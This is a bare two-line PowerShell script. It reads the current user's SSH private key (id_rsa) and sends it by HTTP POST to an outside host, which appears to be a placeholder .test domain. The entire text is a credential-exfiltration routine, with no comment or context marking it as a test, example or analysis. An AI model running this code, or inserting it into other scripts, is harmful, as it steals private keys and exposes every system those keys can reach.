$d = Get-Content "$env:USERPROFILE\.ssh\id_rsa" -Raw
Invoke-RestMethod -Uri "https://in.tidyserv.test/in" -Method Post -Body $d
